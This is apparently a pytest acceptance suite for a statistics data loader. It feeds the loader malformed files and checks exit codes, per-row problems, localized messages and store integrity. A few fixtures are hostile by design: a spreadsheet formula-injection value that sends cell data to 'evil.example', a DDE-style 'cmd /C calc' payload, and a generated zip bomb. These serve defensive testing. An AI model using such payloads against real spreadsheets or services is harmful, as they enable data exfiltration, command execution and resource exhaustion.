"""The loader's acceptance corpus (docs/import.md): every malformed file of ``corpus/`` (README.md there
says what each is) and a few generated at test time (a zip bomb, files around the size limit, a cell
over the CSV field limit) go through ``natije load --json --lang kk|ru|en`` on a copy of the demo store.

Each gives the documented exit status, its problems at the expected row and column with the expected
code, messages in the requested language, counts that add up, and — when refused — a store exactly as
before (counts of observations, batches, ledger entries and kept files; the content hash once).
"""

from __future__ import annotations

import json
import re
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select

from data_sources import admin
from data_sources.loaders.files import Refused, read_sheets
from data_sources.loaders.run import known_headers, load_file
from data_sources.settings import load_settings
from data_sources.store import Indicator, LedgerEntry, LoadBatch, Observation, StoredFile
from services import api
from services.context import make_context
from services.i18n import LANGUAGES, catalog

pytestmark = pytest.mark.datalayer

CORPUS_DIR = Path(__file__).with_name("corpus")
NOT_CORPUS = {"README.md", "make_corpus.py"}
EXIT_STATUS = {"loaded": 0, "partial": 3, "refused": 4}


@dataclass(frozen=True)
class Expect:
    """What loading one file gives: the exit status; the refusal code, or the problems as (row, column
    as written in the file, code) and the counts (read, loaded, unchanged, corrected, quarantined);
    warnings; the sheet the problems are on; comments the loaded rows keep exactly (encodings)."""

    status: int
    refused: str | None = None
    problems: tuple[tuple[int, str | None, str], ...] = ()
    rows: tuple[int, int, int, int, int] = (0, 0, 0, 0, 0)
    warnings: tuple[str, ...] = ()
    sheet: str | None = None
    comments: frozenset[str] = frozenset()


def refused(code: str) -> Expect:
    return Expect(4, refused=code)


CORPUS: dict[str, Expect] = {
    # encodings
    "utf16_le_bom.csv": refused("file_encoding"),
    "utf16_le_no_bom.csv": refused("file_encoding"),
    "utf8_bom_invalid.csv": refused("file_encoding"),
    "binary_junk.csv": refused("file_encoding"),
    "kazakh_kz1048.csv": Expect(0, rows=(2, 2, 0, 0, 0),
                                comments=frozenset({"Әсем өңір: ұңғыма, қөң, һ", "Ғылыми болжам"})),
    "kazakh_utf8_bom.csv": Expect(0, rows=(2, 2, 0, 0, 0),
                                  comments=frozenset({"Жұмыссыздық деңгейі", "Қазақстан бойынша"})),
    "russian_cp1251.csv": Expect(0, rows=(2, 2, 0, 0, 0),
                                 comments=frozenset({"Оперативные данные, ёмкость «А»", "Уточнённые"})),
    # separators and numbers
    "tab_separated.txt": Expect(0, rows=(2, 2, 0, 0, 0)),
    "comma_separated.csv": Expect(0, rows=(2, 2, 0, 0, 0), comments=frozenset({"quoted, with a comma"})),
    "mixed_number_formats.csv": Expect(3, problems=((7, "value", "value_invalid"), (8, "value", "value_invalid"),
                                                    (9, "value", "value_invalid")), rows=(8, 5, 0, 0, 3)),
    # file types and whole-file refusals
    "excel97.xls": refused("file_format"),
    "excel97_named.csv": refused("file_format"),
    "pdf_named.xlsx": refused("file_format"),
    "empty.csv": refused("file_empty"),
    "whitespace.csv": refused("file_empty"),
    "separators_only.csv": refused("file_empty"),
    "damaged.xlsx": refused("file_xlsx_invalid"),
    "not_a_workbook.xlsx": refused("file_xlsx_invalid"),
    "billion_laughs.xlsx": refused("file_xlsx_unsafe"),
    "xxe.xlsx": refused("file_xlsx_unsafe"),
    "two_sheets.xlsx": Expect(3, problems=((3, "Период", "period_frequency"),), rows=(2, 1, 0, 0, 1),
                              sheet="observations"),
    "uncached_formula.xlsx": Expect(3, problems=((3, "мән", "value_missing"),), rows=(2, 1, 0, 0, 1), sheet="Лист1"),
    # header rules
    "header_only.csv": Expect(0, warnings=("file_no_rows",)),
    "missing_period.csv": refused("file_columns"),
    "value_twice.csv": refused("file_header_duplicate"),
    "unknown_columns.csv": refused("file_template_unknown"),
    "leading_blank_rows.csv": Expect(3, problems=((5, "value", "value_invalid"),), rows=(2, 1, 0, 0, 1)),
    "unterminated_quote.csv": refused("file_unreadable"),
    # each row problem of the observations template
    "indicator_unknown.csv": Expect(3, problems=((2, "Показатель", "indicator_unknown"),
                                                 (3, "Показатель", "indicator_unknown")), rows=(3, 1, 0, 0, 2)),
    "region_unknown.csv": Expect(3, problems=((2, "өңір", "region_unknown"), (3, "өңір", "region_unknown")),
                                 rows=(3, 1, 0, 0, 2)),
    "period_invalid.csv": Expect(3, problems=tuple((row, "period", "period_invalid") for row in (2, 3, 4, 5)),
                                 rows=(5, 1, 0, 0, 4)),
    "period_frequency.tsv": Expect(3, problems=tuple((row, "period", "period_frequency") for row in (2, 3, 4)),
                                   rows=(4, 1, 0, 0, 3)),
    "value_missing.csv": Expect(3, problems=tuple((row, "value", "value_missing") for row in (2, 3, 5)),
                                rows=(4, 1, 0, 0, 3)),
    "value_invalid.csv": Expect(3, problems=tuple((row, "value", "value_invalid") for row in (2, 3, 4, 5, 6)),
                                rows=(6, 1, 0, 0, 5)),
    "value_percent.csv": Expect(3, problems=((2, "value", "value_percent"), (4, "value", "value_percent")),
                                rows=(3, 1, 0, 0, 2)),
    "value_out_of_range.csv": Expect(3, problems=tuple((row, "value", "value_out_of_range") for row in (2, 5, 6)),
                                     rows=(5, 2, 0, 0, 3)),
    "unit_mismatch.csv": Expect(3, problems=tuple((row, "unit", "unit_mismatch") for row in (2, 4, 6)),
                                rows=(5, 2, 0, 0, 3)),
    "duplicate_conflict.csv": Expect(3, problems=tuple((row, "value", "duplicate_conflict") for row in (2, 3, 4)),
                                     rows=(5, 1, 1, 0, 3)),
    "row_columns.csv": Expect(3, problems=((3, None, "row_columns"), (4, None, "row_columns")), rows=(3, 1, 0, 0, 2)),
    # formula injection: stored as the text it is (the export neutralises it: a test below)
    "formula_injection.csv": Expect(3, problems=((4, "indicator", "indicator_unknown"),), rows=(3, 2, 0, 0, 1),
                                    comments=frozenset({'=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")',
                                                        "@SUM(1+1)*cmd|' /C calc'!A0"})),
}


def language_of(name: str) -> str:
    """Each file's messages are asked for in one language, the three languages taking turns."""
    return LANGUAGES[sorted(CORPUS).index(name) % len(LANGUAGES)]


def store_counts(engine) -> dict[str, int]:
    """Cheap fingerprint of what a load writes: observations, batches, ledger entries, kept files."""
    with engine.connect() as conn:
        return {model.__tablename__: conn.execute(select(func.count()).select_from(model)).scalar_one()
                for model in (Observation, LoadBatch, LedgerEntry, StoredFile)}


def batch_comments(engine, batch: str) -> set[str]:
    with engine.connect() as conn:
        return set(conn.execute(select(Observation.comment).join(LoadBatch, LoadBatch.id == Observation.batch_id)
                                .where(LoadBatch.code == batch, Observation.comment.is_not(None))).scalars())


def in_language(message: str, lang: str, code: str) -> bool:
    """Whether ``message`` is the ``lang`` catalog's text of ``load.problem.<code>`` (parameters filled)."""
    parts = re.split(r"\{\w+\}", catalog(lang)[f"load.problem.{code}"])
    return re.fullmatch("(.*)".join(map(re.escape, parts)), message, flags=re.DOTALL) is not None


def load_and_check(files: dict[Path, Expect], lang: str, *, natije_cli, env: dict, engine) -> list[dict]:
    """Run ``natije load --json --lang`` on the files together (no two corpus files load the same
    figure) and check each file's record against its expectation; the records."""
    before = store_counts(engine)
    proc = natije_cli("load", "--json", "--lang", lang, *files, env=env, check=False)
    assert proc.returncode == max(expect.status for expect in files.values()), proc.stdout + proc.stderr
    records = json.loads(proc.stdout)["files"]
    assert [record["file"] for record in records] == [str(path) for path in files]
    for expect, record in zip(files.values(), records):
        check_record(record, expect, lang, engine)
    kept = [record for record in records if record["refused"] is None]
    assert store_counts(engine) == {  # a refused file adds nothing; a loaded one its batch and rows only
        "observations": before["observations"] + sum(r["rows"]["loaded"] + r["rows"]["corrected"] for r in kept),
        "load_batches": before["load_batches"] + len(kept),
        "ledger": before["ledger"] + sum(1 + r["rows"]["corrected"] for r in kept),
        "stored_files": before["stored_files"] + len({r["sha256"] for r in kept}),
    }
    return records


def check_record(record: dict, expect: Expect, lang: str, engine) -> None:
    """One file's ``--json`` record: status, counts that add up, problems, messages in ``lang``."""
    name = Path(record["file"]).name
    assert EXIT_STATUS[record["status"]] == expect.status, name
    read, loaded, unchanged, corrected, quarantined = (record["rows"][k] for k in
                                                       ("read", "loaded", "unchanged", "corrected", "quarantined"))
    assert read == loaded + unchanged + corrected + quarantined, name
    assert (read, loaded, unchanged, corrected, quarantined) == expect.rows, name
    assert [(p["row"], p["column"], p["code"]) for p in record["problems"]] == list(expect.problems), name
    assert all(p["sheet"] == expect.sheet for p in record["problems"]), name
    assert [w["code"] for w in record["warnings"]] == list(expect.warnings), name
    notes = record["problems"] + record["warnings"] + ([record["refused"]] if record["refused"] else [])
    for note in notes:
        assert note["message"].strip() and in_language(note["message"], lang, note["code"]), (name, lang, note)
    if expect.refused is not None:
        assert record["refused"]["code"] == expect.refused and record["batch"] is None, name
    else:
        assert record["refused"] is None and record["batch"], name
        assert batch_comments(engine, record["batch"]) == set(expect.comments), name


#: The corpus in groups of one language and one exit status: one command per group.
GROUPS = sorted({(language_of(name), expect.status) for name, expect in CORPUS.items()})


def test_every_corpus_file_has_an_expectation_and_a_readme_line(database_url):
    files = {p.name for p in CORPUS_DIR.iterdir() if p.is_file()} - NOT_CORPUS
    assert files == set(CORPUS)
    readme = (CORPUS_DIR / "README.md").read_text(encoding="utf-8")
    assert all(f"`{name}`" in readme for name in CORPUS)
    assert len(CORPUS) >= 30
    assert {lang for lang, _ in GROUPS} == set(LANGUAGES) and {status for _, status in GROUPS} == {0, 3, 4}


@pytest.mark.parametrize("lang, status", GROUPS)
def test_corpus_files(lang, status, natije_cli, settings_env, database_url, demo_engine):
    """Every file of the group gives the group's exit status (the command's status is the highest of
    its files', and each file's record status is checked), problems, messages and counts."""
    files = {CORPUS_DIR / name: expect for name, expect in sorted(CORPUS.items())
             if language_of(name) == lang and expect.status == status}
    load_and_check(files, lang, natije_cli=natije_cli, env=settings_env.env(database_url=database_url),
                   engine=demo_engine)


def test_the_text_report_names_row_and_column(natije_cli, settings_env, database_url):
    """Without ``--json`` every quarantined row is a line naming its row and column (here in Kazakh)."""
    partial = sorted(name for name, expect in CORPUS.items() if expect.problems)
    proc = natije_cli("load", "--lang", "kk", *(CORPUS_DIR / name for name in partial),
                      env=settings_env.env(database_url=database_url), check=False)
    assert proc.returncode == 3, proc.stderr
    line = catalog("kk")["load.problem_line"]
    for name in partial:
        expect = CORPUS[name]
        for row, column, _ in expect.problems:
            where = f"[{expect.sheet}] " if expect.sheet else ""
            named = line.split("{value}")[0].format(row=row, column=column or "–")
            assert f"  {where}{named}" in proc.stdout, (name, row, column)


# --------------------------------------------------------------------------------------------------
# generated at test time: too big to commit, or built around a setting

LIMIT_MB = 1
LIMIT_BYTES = LIMIT_MB * 1024 * 1024


def huge_csv(path: Path) -> Path:
    """About 1.1 MB: over a 1 MB limit (refused before it is read, so the content does not matter)."""
    with path.open("wb") as handle:
        handle.write(b"indicator;period;value\r\n")
        handle.truncate(int(LIMIT_BYTES * 1.1))
    return path


def just_under_csv(path: Path) -> Path:
    """Valid monthly rows from January 2040 on (Astana, a long comment each), up to just under 1 MB."""
    lines = ["indicator;period;region;value;comment"]
    size = len(lines[0]) + 2
    month = 0
    while True:
        line = f"BIRTHS;{2040 + month // 12}-{month % 12 + 1:02d};AST;{3000 + month % 500};{'x' * 1200}"
        if size + len(line) + 2 > LIMIT_BYTES - 1:
            break
        lines.append(line)
        size += len(line) + 2
        month += 1
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode("ascii"))
    return path


def long_cell_csv(path: Path) -> Path:
    """A quoted cell longer than the CSV reader's field limit (131,072 characters): not a table."""
    path.write_bytes(b'indicator;period;value;comment\r\nLIFE_EXPECTANCY;2040;70;"' + b"x" * 140_000 + b'"\r\n')
    return path


def zip_bomb_xlsx(path: Path) -> Path:
    """A workbook whose sheet XML unpacks to 300 MB of zeros (about 0.3 MB on disk, streamed)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            zeros = bytes(1024 * 1024)
            for _ in range(300):
                member.write(zeros)
    return path


def test_a_file_over_the_size_limit_is_refused_and_one_just_under_loads(natije_cli, settings_env, database_url,
                                                                        demo_engine, tmp_path):
    env = settings_env.env(database_url=database_url, max_upload_mb=LIMIT_MB)
    huge = huge_csv(tmp_path / "huge.csv")
    assert huge.stat().st_size > LIMIT_BYTES
    (record,) = load_and_check({huge: refused("file_too_large")}, "en", natije_cli=natije_cli, env=env,
                               engine=demo_engine)
    assert "1 MB" in record["refused"]["message"]

    under = just_under_csv(tmp_path / "just_under.csv")
    assert LIMIT_BYTES - 2048 < under.stat().st_size < LIMIT_BYTES
    count = len(under.read_bytes().splitlines()) - 1
    load_and_check({under: Expect(0, rows=(count, count, 0, 0, 0), comments=frozenset({"x" * 1200}))}, "kk",
                   natije_cli=natije_cli, env=env, engine=demo_engine)


def test_a_cell_over_the_csv_field_limit_is_refused(natije_cli, settings_env, database_url, demo_engine, tmp_path):
    load_and_check({long_cell_csv(tmp_path / "long_cell.csv"): refused("file_unreadable")}, "ru",
                   natije_cli=natije_cli, env=settings_env.env(database_url=database_url), engine=demo_engine)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(natije_cli, settings_env, database_url, demo_engine, tmp_path,
                                                     monkeypatch):
    bomb = zip_bomb_xlsx(tmp_path / "bomb.xlsx")
    assert bomb.stat().st_size < 2 * 1024 * 1024
    digest = admin.content_hash(demo_engine)

    started = time.perf_counter()
    load_and_check({bomb: refused("file_xlsx_unsafe")}, "ru", natije_cli=natije_cli,
                   env=settings_env.env(database_url=database_url), engine=demo_engine)
    assert time.perf_counter() - started < 15  # the whole command; unpacking 300 MB would not fit
    assert admin.content_hash(demo_engine) == digest  # nothing of a refused file is left, exactly

    def never(*args, **kwargs):
        raise AssertionError("openpyxl opened the bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    with pytest.raises(Refused) as refusal:
        read_sheets(bomb, max_bytes=100 * 1024 * 1024, known_headers=known_headers())
    assert refusal.value.code == "file_xlsx_unsafe"


# --------------------------------------------------------------------------------------------------
# formula injection: stored as text, neutralised in the API's CSV


def test_formula_text_is_stored_as_text_and_the_csv_export_neutralises_it(database_url, demo_engine):
    report = load_file(demo_engine, CORPUS_DIR / "formula_injection.csv", actor="corpus-test")
    assert (report.loaded, report.quarantined) == (2, 1)
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")'
    with demo_engine.connect() as conn:
        stored = dict(conn.execute(
            select(Observation.period, Observation.comment).join(Indicator, Indicator.id == Observation.indicator_id)
            .where(Indicator.code == "LIFE_EXPECTANCY", Observation.period.in_(["2063", "2064"]))).all())
    assert stored == {"2063": formula, "2064": "@SUM(1+1)*cmd|' /C calc'!A0"}

    ctx = make_context(demo_engine, load_settings({"NATIJE_DATABASE_URL": database_url}), lang="en")
    exported = api.to_csv(api.observations(ctx, "LIFE_EXPECTANCY", from_="2063", to="2064"), api.OBSERVATION_COLUMNS)
    lines = exported.splitlines()
    assert lines[1:] == ["LIFE_EXPECTANCY,2063,70,,years,", "LIFE_EXPECTANCY,2064,71,,years,"]
    stored_rows = api.to_csv([{"period": period, "comment": text} for period, text in sorted(stored.items())])
    assert stored_rows.splitlines()[1:] == ['2063,"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Подробнее"")"',
                                            "2064,'@SUM(1+1)*cmd|' /C calc'!A0"]
